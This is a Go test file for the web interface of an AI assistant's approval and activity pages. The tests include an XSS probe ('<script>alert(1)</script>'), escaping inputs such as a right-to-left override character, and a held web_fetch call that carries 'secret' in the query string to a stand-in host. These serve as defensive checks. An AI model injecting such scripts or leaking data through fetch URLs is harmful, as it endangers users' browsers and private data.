package webapp

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"

	"github.com/stewardhq/steward/internal/activity"
	"github.com/stewardhq/steward/internal/agent"
	"github.com/stewardhq/steward/internal/steward"
	"github.com/stewardhq/steward/internal/store"
	"github.com/stewardhq/steward/internal/tools/toolstest"
)

// TestCardSaysWhyHeld: a call the gate held because its turn read outside content says so on
// its card, naming the source; an ordinary ask says nothing more.
func TestCardSaysWhyHeld(t *testing.T) {
	var p page
	card(&p, toolstest.Registry(), uuid.New(), []steward.PendingCall{
		{CallID: "c1", Tool: "web_fetch", Args: json.RawMessage(`{"url":"https://x.example/?q=secret"}`), ArgsHash: "abc",
			Reason: steward.ReasonTainted, Taint: "tool:web_fetch"},
		{CallID: "c2", Tool: "add_task", Args: json.RawMessage(`{"title":"milk"}`), ArgsHash: "def"},
	})
	html := p.String()
	want := `<p class="held" role="note">Held: this turn read outside content (tool:web_fetch); it may carry your data out</p>`
	if strings.Count(html, want) != 1 {
		t.Fatalf("card = %s\nwant exactly one %s", html, want)
	}
	if i, j := strings.Index(html, want), strings.Index(html, `data-call="c2"`); i > j {
		t.Errorf("the held note is not on the web_fetch card: %s", html)
	}
	// The source is escaped like every other value.
	p.Reset()
	card(&p, toolstest.Registry(), uuid.New(), []steward.PendingCall{{CallID: "c", Tool: "t", Args: json.RawMessage(`{}`), Reason: steward.ReasonTainted, Taint: "<b>x</b>"}})
	if !strings.Contains(p.String(), "(&lt;b&gt;x&lt;/b&gt;)") {
		t.Errorf("taint source not escaped: %s", p.String())
	}
}

// TestCardSaysWhyAskedInUntrustedTurn: a call asked in a turn that recalled outside text
// from memory — the owner's allow rules did not apply — says what the turn read.
func TestCardSaysWhyAskedInUntrustedTurn(t *testing.T) {
	var p page
	card(&p, toolstest.Registry(), uuid.New(), []steward.PendingCall{
		{CallID: "c1", Tool: "add_task", Args: json.RawMessage(`{"title":"milk"}`), ArgsHash: "abc",
			Reason: steward.ReasonUntrusted, Taint: "a document 'x.csv' recalled from memory"},
	})
	want := `<p class="held" role="note">Asked because this turn read a document &#39;x.csv&#39; recalled from memory: your standing rules and auto mode do not apply to it</p>`
	if html := p.String(); strings.Count(html, want) != 1 {
		t.Fatalf("card = %s\nwant exactly one %s", html, want)
	}
}

// TestStorySaysWhatTainted: a turn's story says what outside content the turn read; an
// untainted turn's says nothing of it.
func TestStorySaysWhatTainted(t *testing.T) {
	var p page
	taintNote(&p, steward.View{Taint: "a document 'x.csv' recalled from memory"})
	want := `<p class="held" role="note">This turn read outside content (a document &#39;x.csv&#39; recalled from memory): calls that could carry data out waited for you, and memory keeps the exchange as untrusted</p>`
	if p.String() != want {
		t.Errorf("story note = %s\nwant %s", p.String(), want)
	}
	p.Reset()
	if taintNote(&p, steward.View{}); p.String() != "" {
		t.Errorf("an untainted turn's story says %s", p.String())
	}
}

// TestActivityBody: the activity page lists the latest notifications with their delivery
// state (a one-tap link hidden), deliveries, job runs and webhook runs with their status and
// a link to the turn a run started, then the turns.
func TestActivityBody(t *testing.T) {
	turn := uuid.New()
	at := time.Date(2031, 5, 1, 7, 0, 0, 0, time.UTC)
	runs := []store.JobRun{
		{Job: "webhook:github", Trigger: store.RunByWebhook, Status: store.RunFailed, Error: "the model failed", CreatedAt: at.Add(time.Minute)},
		{Job: "morning-briefing", Trigger: store.RunBySchedule, Status: store.RunCompleted, TurnID: &turn, CreatedAt: at},
	}
	feed := []steward.View{{TurnID: turn, Trigger: steward.TriggerSchedule, Status: steward.StatusCompleted, Answer: "Good morning", CreatedAt: at}}
	deliveries := []steward.Event{{Kind: "notification.retry", CreatedAt: at,
		Data: []byte(`{"channel":"phone","attempt":2,"error":"the channel answered <503>"}`)}}
	link := uuid.New()
	notes := []store.Notification{
		{Title: "Approval needed", TurnID: &turn, CreatedAt: at, NextDeliveryAt: &at, DeliveryAttempts: 2, DeliveryError: "the channel answered 503",
			Message: "Steward is waiting for your approval of one action:\n• create_task: title=\"buy milk\"\n\nApprove: [one-tap link " + link.String() + "]"},
		{Title: "Briefing", Channel: "phone", CreatedAt: at, DeliveredAt: &at, Message: "**Good morning.** Today:\n\n- dentist at 10\n- [agenda](https://example.com/a)\n\n<script>alert(1)</script>"},
	}
	var p page
	activityBody(feed, runs, deliveries, notes)(&p)
	html := p.String()
	for _, want := range []string{
		`<li class="delivery" data-kind="notification.retry"><strong>retry</strong> to <code>phone</code> <span class="meta">2031-05-01 07:00 UTC · attempt 2</span><p class="error">the channel answered &lt;503&gt;</p></li>`,
		`<strong>Webhook</strong> <code>webhook:github</code> <span class="meta">2031-05-01 07:01 UTC · webhook · <span class="status">failed</span></span><p class="error">the model failed</p>`,
		`<strong>Job</strong> <code>morning-briefing</code> <span class="meta">2031-05-01 07:00 UTC · schedule · <span class="status">completed</span></span> <a class="story" href="/turns/` + turn.String() + `">The turn's story</a>`,
		`<h2>Turns</h2>`, `Good morning`,
		`<li class="notification"><strong>Approval needed</strong> <span class="meta">2031-05-01 07:00 UTC · not delivered yet (2 attempts); next try 2031-05-01 07:00 UTC</span>`,
		`Approve: (a one-tap link, sent to your channel only)</p>
</div><p class="error">the channel answered 503</p>`,
		// A briefing's Markdown is HTML, sanitized: bold, a list, a safe link, no script.
		`<strong>Good morning.</strong> Today:`, "<li>dentist at 10</li>", `<a href="https://example.com/a" rel="noopener noreferrer">agenda</a>`,
		`<strong>Briefing</strong> <span class="meta">2031-05-01 07:00 UTC · delivered to phone 2031-05-01 07:00 UTC</span>`,
	} {
		if !strings.Contains(html, want) {
			t.Errorf("activity page lacks %s\n%s", want, html)
		}
	}
	if strings.Contains(html, "<script") {
		t.Errorf("a notification's <script> reached the activity page: %s", html)
	}
	if strings.Contains(html, link.String()) {
		t.Errorf("the activity page shows a one-tap link's id: %s", html)
	}
	if strings.Index(html, "webhook:github") > strings.Index(html, "morning-briefing") {
		t.Errorf("runs are not newest first: %s", html)
	}
	p.Reset()
	activityBody(nil, nil, nil, nil)(&p)
	if !strings.Contains(p.String(), "Nothing has happened yet.") {
		t.Errorf("empty activity page = %s", p.String())
	}
}

// TestChatTurnStates: in the history a call the owner denied says "Denied by you" with their
// message, a turn whose approval expired says "Expired" and offers no buttons, a live one
// shows its card, and an answer's Markdown is HTML while a user's message stays text.
func TestChatTurnStates(t *testing.T) {
	now := time.Date(2031, 5, 1, 12, 0, 0, 0, time.UTC)
	past, future := now.Add(-time.Minute), now.Add(time.Hour)
	call := activity.ToolCall{CallID: "c1", Tool: "create_task", Args: json.RawMessage(`{"title":"gym"}`)}
	msgs := []activity.Message{{Role: "user", Text: "<b>remind</b> me"}, {Role: "assistant", ToolCalls: []activity.ToolCall{call}}}
	pending := []steward.PendingCall{{CallID: "c1", Tool: "create_task", Args: call.Args, ArgsHash: "h"}}
	render := func(ct activity.ChatTurn) string {
		var p page
		chatTurn(&p, toolstest.Registry(), ct, now, false)
		return p.String()
	}

	denied := render(activity.ChatTurn{Turn: steward.View{TurnID: uuid.New(), Status: steward.StatusCompleted},
		Messages: append(msgs, activity.Message{Role: "assistant", Text: "Okay:\n- not added"}),
		Calls:    map[string]steward.CallRecord{"c1": {CallID: "c1", Status: steward.CallDenied, DecidedBy: "human", Message: "not now"}}})
	for _, want := range []string{`<strong>Denied</strong> by you · “not now”`, `<div class="msg user">&lt;b&gt;remind&lt;/b&gt; me</div>`, "<ul>\n<li>not added</li>\n</ul>"} {
		if !strings.Contains(denied, want) {
			t.Errorf("denied turn lacks %s:\n%s", want, denied)
		}
	}
	expired := render(activity.ChatTurn{Turn: steward.View{TurnID: uuid.New(), Status: steward.StatusSuspended, ExpiresAt: &past, Pending: pending},
		Messages: msgs, Calls: map[string]steward.CallRecord{"c1": {CallID: "c1", Status: steward.CallPending}}})
	if !strings.Contains(expired, `<strong>Expired</strong>`) || strings.Contains(expired, "data-choice") {
		t.Errorf("an expired approval should say Expired without buttons:\n%s", expired)
	}
	live := render(activity.ChatTurn{Turn: steward.View{TurnID: uuid.New(), Status: steward.StatusSuspended, ExpiresAt: &future, Pending: pending},
		Messages: msgs, Calls: map[string]steward.CallRecord{"c1": {CallID: "c1", Status: steward.CallPending}}})
	if !strings.Contains(live, `data-choice="approve"`) || strings.Contains(live, "Expired") {
		t.Errorf("a live approval should show its card:\n%s", live)
	}
}

// TestCardLeadsWithSummary: an approval card leads with the call's one-line summary, lists
// the arguments as labelled fields — money as an amount with its currency, dates readable,
// invisible characters shown, markup escaped — and keeps the exact JSON and its hash behind a
// disclosure; a tool the registry does not know (an MCP tool) is worded generically.
func TestCardLeadsWithSummary(t *testing.T) {
	var p page
	card(&p, toolstest.Registry(), uuid.New(), []steward.PendingCall{
		{CallID: "c1", Tool: "record_expense", ArgsHash: "0123456789abcdef0123",
			Args: json.RawMessage(`{"account":"Checking","amount":1250,"currency":"EUR","date":"2031-05-01","merchant":"Luna <b>café</b>\u202e"}`)},
		{CallID: "c2", Tool: "mcp_github_create_issue", ArgsHash: "feed", Args: json.RawMessage(`{"title":"Bug","labels":["a","b"],"draft":false}`)},
	})
	html := p.String()
	for _, want := range []string{
		`<legend><span class="ask">Approve?</span> <span class="summary">Spend €12.50 at Luna &lt;b&gt;café&lt;/b&gt;⟨U+202E⟩ on 1 May 2031 from Checking</span></legend>`,
		`<div><dt>Account</dt><dd>Checking</dd></div><div><dt>Amount</dt><dd>€12.50</dd></div><div><dt>Date</dt><dd>1 May 2031</dd></div>`,
		`<div><dt>Merchant</dt><dd>Luna &lt;b&gt;café&lt;/b&gt;⟨U+202E⟩</dd></div>`,
		`<details class="exact"><summary>Exact arguments</summary><p class="meta">Tool <code class="tool">record_expense</code></p>` +
			`<pre class="args">{&#34;account&#34;:&#34;Checking&#34;,&#34;amount&#34;:1250,&#34;currency&#34;:&#34;EUR&#34;,&#34;date&#34;:&#34;2031-05-01&#34;,&#34;merchant&#34;:&#34;Luna &lt;b&gt;café&lt;/b&gt;\u202e&#34;}</pre>` +
			`<p class="hash">args hash <code>0123456789ab</code></p></details>`,
		`<span class="summary">Call github.create_issue</span>`,
		`<div><dt>Title</dt><dd>Bug</dd></div><div><dt>Labels</dt><dd>[&#34;a&#34;,&#34;b&#34;]</dd></div><div><dt>Draft</dt><dd>no</dd></div>`,
	} {
		if !strings.Contains(html, want) {
			t.Errorf("card lacks %s\n%s", want, html)
		}
	}
	if strings.Contains(html, "<dt>Currency</dt>") || strings.Contains(html, "<b>") {
		t.Errorf("the currency is a field of its own, or markup got through: %s", html)
	}
}

// TestChipSaysCallAndResult: a tool call's chip says what was asked and what came back in
// words; the raw arguments and result are only behind its disclosure.
func TestChipSaysCallAndResult(t *testing.T) {
	var p page
	c := activity.ToolCall{CallID: "c1", Tool: "create_task", Args: json.RawMessage(`{"title":"buy milk"}`)}
	chip(&p, toolstest.Registry(), c, activity.ToolResult{CallID: "c1", Tool: "create_task", Output: json.RawMessage(`{"task":{"id":"6f1c","title":"buy milk"}}`)}, true)
	html := p.String()
	want := `<details class="chip done" data-call="c1"><summary><span class="chip-call">Create task “buy milk”</span> <span class="chip-state">` +
		`<span aria-hidden="true">→ </span>Created task “buy milk”</span></summary><div class="chip-body">`
	if !strings.HasPrefix(html, want) || !strings.Contains(html, `<pre class="args result">{&#34;task&#34;`) {
		t.Errorf("chip = %s\nwant it to start %s and keep the raw result inside", html, want)
	}
	if i := strings.Index(html, "</summary>"); strings.Contains(html[:i], "6f1c") {
		t.Errorf("the chip's summary shows raw JSON: %s", html)
	}
	// In the history a result is stored inside its data block: the chip words what it holds.
	stored, _ := json.Marshal(agent.DataBlock("tool:create_task", `{"task":{"title":"buy milk"}}`))
	p.Reset()
	chip(&p, toolstest.Registry(), c, activity.ToolResult{CallID: "c1", Tool: "create_task", Output: stored}, true)
	if !strings.HasPrefix(p.String(), want) {
		t.Errorf("a stored result's chip = %s\nwant it to start %s", p.String(), want)
	}
	p.Reset()
	chip(&p, nil, activity.ToolCall{CallID: "c2", Tool: "mcp_files_read", Args: json.RawMessage(`{}`)},
		activity.ToolResult{CallID: "c2", Output: json.RawMessage(`"the server is down"`), IsError: true}, true)
	if !strings.Contains(p.String(), `<span class="chip-call">Call files.read</span>`) || !strings.Contains(p.String(), `Failed: the server is down`) {
		t.Errorf("an MCP tool's failed chip = %s", p.String())
	}
}

// TestSettled: a card's watch learns nothing while its turn waits for the owner; once the turn
// no longer waits, each call says how it came out — a person's decision with who and when,
// else expired (also a suspended turn past its expiry), stopped, or approved by the owner
// while household members still have to.
func TestSettled(t *testing.T) {
	now := time.Date(2031, 5, 1, 12, 0, 0, 0, time.UTC)
	past, future := now.Add(-time.Minute), now.Add(time.Hour)
	id := uuid.New()
	if s := settled(steward.View{TurnID: id, Status: steward.StatusSuspended, ExpiresAt: &future}, nil, now); s != nil {
		t.Errorf("a waiting turn is settled: %v", s)
	}
	ds := map[string]activity.Decision{"c1": {Approved: false, By: "you and bob", At: now.Add(-2 * time.Minute), Message: "no"},
		"c2": {Approved: true, By: "bob", At: now.AddDate(0, 0, -1)}}
	got := settled(steward.View{TurnID: id, Status: steward.StatusCompleted}, ds, now)
	if want := (verdict{"denied", "Denied", "by you and bob · 11:58 UTC · “no”"}); got["c1"] != want {
		t.Errorf("c1 = %+v, want %+v", got["c1"], want)
	}
	if want := (verdict{"approved", "Approved", "by bob · 2031-04-30 12:00 UTC"}); got["c2"] != want {
		t.Errorf("c2 = %+v, want %+v", got["c2"], want)
	}
	for _, tc := range []struct {
		v    steward.View
		want string
	}{
		{steward.View{Status: steward.StatusExpired}, "Expired"},
		{steward.View{Status: steward.StatusSuspended, ExpiresAt: &past}, "Expired"},
		{steward.View{Status: steward.StatusCancelled}, "Stopped"},
		{steward.View{Status: steward.StatusSuspended, ExpiresAt: &future, Awaiting: "awaiting household approval from bob"}, "Approved"},
	} {
		if got := settled(tc.v, nil, now)["*"]; got.Label != tc.want {
			t.Errorf("%s (awaiting %q): %+v, want %s", tc.v.Status, tc.v.Awaiting, got, tc.want)
		}
	}
}
